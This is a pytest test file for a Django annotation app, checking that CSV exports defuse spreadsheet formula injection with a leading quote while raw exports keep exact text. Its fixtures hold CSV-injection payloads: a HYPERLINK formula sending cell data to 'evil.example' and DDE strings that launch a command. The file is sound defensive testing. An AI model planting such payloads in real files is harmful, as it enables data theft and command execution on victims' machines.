"""CSV exports never hand a spreadsheet a formula; ?raw=1 and JSONL keep exact text.

Coders write comments, imports bring titles and texts, usernames may start with
'@', '+' or '-': any of them could open as a formula (=HYPERLINK, =cmd|…) when a
reviewer double-clicks the CSV. OWASP's advice: a cell whose first character is
=, +, -, @, tab or carriage return gets a leading single quote.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command

from annotator import exporting
from annotator.gold import adjudicate, refresh_gold
from annotator.models import Annotation, GoldLabel, Membership
from annotator.services import create_project
from corpus.db import portable
from tests.annotator.test_export_api import body, url
from tests.factories import (
    CorpusFactory,
    DocumentFactory,
    UserFactory,
    code_everything,
    make_codebook,
    member,
)

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
TEXT = (
    "=1+1 said nobody.\n\n+7 495 123 45 67 is the number.\n\n-2 degrees.\n\n@all: calm."
)
NOTE = "\t=cmd|' /C calc'!A0"
COMMENT = "\r@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile():
    corpus = CorpusFactory()
    DocumentFactory(corpus=corpus, title=TITLE, text=TEXT)
    coders = {UserFactory(username=n): Membership.Role.CODER for n in ("c1", "c2")}
    project = create_project(
        name="Formulas", corpus=corpus, codebook=make_codebook(), members=coders,
        coders_per_span=2, sample_share=1.0,
    )  # fmt: skip
    code_everything(project, coders=("c1", "c2"))
    Annotation.objects.filter(project=project).update(comment=COMMENT)
    reviewer = member(project, "-reviewer", Membership.Role.REVIEWER)
    refresh_gold(project)
    span = GoldLabel.objects.filter(project=project).order_by("span_id")[0].span_id
    adjudicate(project, span, "topic", "trade", reviewer=reviewer, note="settled")
    # The service strips a note; a tab in front is still possible (admin, archive).
    GoldLabel.objects.filter(project=project, note="settled").update(note=NOTE)
    return project, reviewer


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def column(rows: list[list[str]], name: str) -> list[str]:
    at = rows[0].index(name)
    return [row[at] for row in rows[1:]]


def check_gold_csv(rows: list[list[str]]) -> None:
    assert_no_formula(rows)
    assert set(column(rows, "document_title")) == {"'" + TITLE}
    # Every paragraph starts with a formula character; spans the coders disagreed
    # on have no gold yet, so not all of them are here.
    texts = {text[1:] for text in column(rows, "text") if text.startswith("'")}
    assert len(texts) >= 2 and texts <= set(TEXT.split("\n\n"))
    assert "'" + NOTE in column(rows, "note")
    assert "'-reviewer" in column(rows, "decided_by")


def test_gold_csv_download_neutralises_formulas(client, hostile):
    project, reviewer = hostile
    client.force_login(reviewer)
    check_gold_csv(cells(body(client.get(url("api-gold-csv", project)))))


@pytest.mark.postgres
def test_gold_csv_portable_twin_neutralises_formulas_too(hostile):
    project, _ = hostile
    with portable("gold-csv-copy"):
        check_gold_csv(cells("".join(exporting.gold_csv(project))))


def test_annotations_csv_download_neutralises_formulas(client, hostile):
    project, reviewer = hostile
    client.force_login(reviewer)
    rows = cells(body(client.get(url("api-annotations-csv", project))))
    assert_no_formula(rows)
    assert set(column(rows, "comment")) == {"'" + COMMENT}
    assert set(column(rows, "document_title")) == {"'" + TITLE}
    # Numbers are numbers: the columns that hold them are left as they are.
    assert all(cell.isdigit() for cell in column(rows, "span_id"))


def test_raw_csv_and_jsonl_keep_the_exact_text(client, hostile):
    project, reviewer = hostile
    client.force_login(reviewer)
    raw = cells(body(client.get(url("api-gold-csv", project, raw="1"))))
    assert set(column(raw, "document_title")) == {TITLE}
    assert NOTE in column(raw, "note") and "-reviewer" in column(raw, "decided_by")
    raw = cells(body(client.get(url("api-annotations-csv", project, raw="1"))))
    assert set(column(raw, "comment")) == {COMMENT}
    lines = body(client.get(url("api-gold-jsonl", project))).splitlines()
    assert {json.loads(line)["document_title"] for line in lines} == {TITLE}


def test_a_bad_raw_value_is_named(client, hostile):
    project, reviewer = hostile
    client.force_login(reviewer)
    response = client.get(url("api-gold-csv", project, raw="maybe"))
    assert response.status_code == 400
    assert "raw" in response.json()["detail"]


def test_export_gold_neutralises_unless_raw_csv(hostile, tmp_path):
    project, _ = hostile
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    call_command("export_gold", "--project", str(project.pk), "-o", str(safe),
                 "--no-progress")  # fmt: skip
    call_command("export_gold", "--project", str(project.pk), "-o", str(raw),
                 "--no-progress", "--raw-csv")  # fmt: skip
    check_gold_csv(cells(safe.read_text(encoding="utf-8")))
    assert set(column(cells(raw.read_text(encoding="utf-8")), "document_title")) == {
        TITLE
    }
